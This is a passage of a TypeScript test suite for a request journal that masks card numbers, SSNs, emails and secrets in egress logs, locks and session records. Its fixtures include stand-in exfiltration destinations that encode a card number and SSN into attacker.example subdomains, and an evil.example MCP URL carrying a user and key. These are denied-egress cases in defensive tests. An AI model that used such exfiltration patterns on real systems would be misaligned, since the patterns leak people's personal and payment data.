    const { journal, drafts } = journalOf(book, { mode: 'record' });
    journal.skillEvent({ kind: 'lock', target: `owner/${EMAIL}`, lock: 'lock-4111111111111111', reason });
    journal.skillEvent({ kind: 'revocation', token: 'jti_01', reason });
    const [lock, revocation] = drafts as unknown as Array<{ kind: string; data: Record<string, unknown> }>;
    expect(lock!.data).toEqual({
      findings: expect.arrayContaining([expect.objectContaining({ type: 'CREDIT_CARD', path: 'lock' }), expect.objectContaining({ type: 'SECRET', path: 'reason' }), expect.objectContaining({ type: 'EMAIL_ADDRESS', path: 'target' })]),
      lock: 'lock-[CREDIT_CARD]', reason: 'offboarded: [EMAIL_ADDRESS] pasted card [CREDIT_CARD], SSN [US_SSN] and key [SECRET]', target: 'owner/[EMAIL_ADDRESS]',
    });
    expect(revocation!.data).toEqual({ findings: expect.any(Array), reason: 'offboarded: [EMAIL_ADDRESS] pasted card [CREDIT_CARD], SSN [US_SSN] and key [SECRET]', token: 'jti_01' });
    expectNoneRaw(JSON.stringify(drafts));
  });

  test('with the record\'s masker, the log lines of egress attempts, locks and request ends carry the text masked', () => {
    const { log, lines } = capture();
    const book = new MaskerBook('record-journal-test-key');
    const journal = withLogLines(journalOf(book, { mode: 'record' }).journal, log);
    journal.egress({ requestId: 'req_2', method: 'DNS A', destination: '4111111111111111.ssn-536-22-8974.attacker.example', allowed: false, reason });
    journal.egress({ requestId: 'req_3', method: 'CONNECT', destination: 'api.github.com:443', allowed: true });
    journal.skillEvent({ kind: 'lock', target: `owner/${EMAIL}`, lock: 'lock-4111111111111111', reason });
    journal.end(exchange());
    const parsed = lines.map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(parsed.map((l) => l.msg)).toEqual(['egress denied', 'egress allowed', 'lock in force for this skill', 'request']);
    expect(parsed[0]).toMatchObject({ destination: '[CREDIT_CARD].ssn-[US_SSN].attacker.example', reason: 'offboarded: [EMAIL_ADDRESS] pasted card [CREDIT_CARD], SSN [US_SSN] and key [SECRET]' });
    expect(parsed[1]).toMatchObject({ destination: 'api.github.com:443' });
    expect(parsed[2]).toMatchObject({ target: 'owner/[EMAIL_ADDRESS]', lock: 'lock-[CREDIT_CARD]' });
    expect(parsed[3]).toMatchObject({ reason: 'masking the download failed: the text file [EMAIL_ADDRESS] [CREDIT_CARD].csv is not UTF-8' });
    expectNoneRaw(lines.join('\n'));
  });

  test('a reason that goes to the log line and to the record is masked once', () => {
    const { log } = capture();
    const masker = new MaskerBook('record-journal-test-key').forSpec({ mode: 'record' });
    const seen: string[] = [];
    const maskText = masker.maskText.bind(masker);
    masker.maskText = (text: string) => { seen.push(text); return maskText(text); };
    const drafts: Array<{ kind: string; data: Record<string, unknown> }> = [];
    const recorder = { append: (d: { kind: string; data: Record<string, unknown> }) => { drafts.push(d); return Promise.resolve({}); }, later: (task: () => void) => task() } as unknown as SessionRecorder;
    const journal = withLogLines(recordJournal({ recorder, masker: () => masker, recording: () => undefined, identity: () => identity, log: createLogger('silent') }), log);
    const x = { ...exchange(), identity, sessionId: 'ses_reason' } as unknown as Exchange;
    journal.end(x);
    expect(seen.filter((t) => t === x.outcomeReason)).toHaveLength(1);
    expect(drafts.find((d) => d.kind === 'stream_end')!.data.reason).toBe('masking the download failed: the text file [EMAIL_ADDRESS] [CREDIT_CARD].csv is not UTF-8');
  });

  test('in log-only mode (no masker), decisions, approvals, egress attempts, locks and request ends leave such text out of their lines', () => {
    const { log, lines } = capture();
    const journal = logJournal(log);
    const x = exchange();
    journal.decision(x, { action: 'deny', policies: ['team-a/p'], rule: 'mcp', reason: `MCP server https://mcp.evil.example/sse?user=${EMAIL}&key=${KEY} is not allowed` });
    journal.approval(x, { state: 'denied', approval: 'team-a/a1', reason });
    journal.egress({ requestId: 'req_2', method: 'CONNECT', destination: '4111111111111111.attacker.example:443', allowed: false, reason });
    journal.egress({ requestId: 'req_3', method: 'CONNECT', destination: '10.0.0.7:443', allowed: false });
    journal.skillEvent({ kind: 'lock', target: 'skill/team-a/triage', lock: 'lock-4111111111111111', reason });
    journal.skillEvent({ kind: 'revocation', token: 'jti_01', reason });
    journal.end(x);
    const parsed = lines.map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(parsed.map((l) => l.msg)).toEqual(['policy decision', 'approval', 'egress denied', 'egress denied', 'lock in force for this skill', 'workload token revoked', 'request']);
    expect(parsed[0]).toMatchObject({ action: 'deny', rule: 'mcp', reason: TEXT_NOT_LOGGED });
    expect(parsed[2]).toMatchObject({ destination: TEXT_NOT_LOGGED, reason: TEXT_NOT_LOGGED });
    expect(parsed[3]).toMatchObject({ destination: '10.0.0.7:443' });
    expect(parsed[6]).toMatchObject({ reason: TEXT_NOT_LOGGED, outcome: 'error' });
    expectNoneRaw(lines.join('\n'));
  });
});

test('the request log line keeps the API\'s words and ids of a path, never a segment the skill wrote', () => {
  const lines: string[] = [];
  const log = pino({ level: 'info' }, new Writable({ write(chunk: Buffer, _enc, done) { lines.push(chunk.toString()); done(); } }));
  const journal = logJournal(log);
  const exchange = (path: string) => ({
    id: 'req_1', req: { method: 'GET', headers: {} }, res: { headersSent: false }, route: { kind: 'files', path }, bytesIn: 0, bytesOut: 0, receivedAt: process.hrtime.bigint(),
  }) as unknown as Exchange;
  for (const path of ['/v1/files/4111-1111-1111-1111', '/v1/files/file_011CNha8iCJcU1wXNR6q4V8w/content', '/v1/messages/batches/msgbatch_01HkcTjaV5uDC8jWR4ZsDV8d/results', '/v1/models/claude-sonnet-4-5-20250929', '/v1/skills/jane.doe@example.com']) {
    journal.end(exchange(path));
  }
  expect(lines.map((l) => (JSON.parse(l) as { path: string }).path)).toEqual([
    '/v1/files/[redacted]', '/v1/files/file_011CNha8iCJcU1wXNR6q4V8w/content', '/v1/messages/batches/msgbatch_01HkcTjaV5uDC8jWR4ZsDV8d/results',
    '/v1/models/claude-sonnet-4-5-20250929', '/v1/skills/[redacted]',
  ]);
});
